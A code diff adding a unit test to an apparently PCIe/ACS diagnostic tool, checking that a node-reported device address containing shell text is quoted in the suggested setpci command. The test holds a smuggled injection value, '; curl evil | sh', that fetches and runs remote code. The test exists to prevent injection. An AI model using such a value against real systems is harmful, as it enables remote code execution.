@@ -325,3 +325,21 @@ def test_the_live_probe_collects_acs_from_its_sys_root(
     assert output.facts.acs is not None
     assert [b.address for b in output.facts.acs.bridges] == [DOWN_GPU, DOWN_NIC]
     assert output.raw["lspci-vvv.txt"] == text(PEX8747)
+
+
+def test_a_node_reported_address_cannot_become_another_command() -> None:
+    """Facts come from the node: an address with shell text in it is quoted in the action."""
+    hostile = "0000:b4:08.0; curl evil | sh"
+    facts = FabricFacts(
+        source="sysfs",
+        devices=[probe.RdmaDevice("mlx5_0")],
+        acs=AcsFacts(
+            gpus=[GPU],
+            paths=[GpuNicPath(GPU, "mlx5_0", [hostile])],
+            bridges=[PciBridgeAcs(hostile, acs_ctl=flags(PLX_ON))],
+        ),
+    )
+    (finding,) = checks.judge_acs(facts, load("b300"))
+    assert "`setpci -s '0000:b4:08.0; curl evil | sh' ECAP_ACS+0x6.w=0000`" in (
+        finding.action or ""
+    )
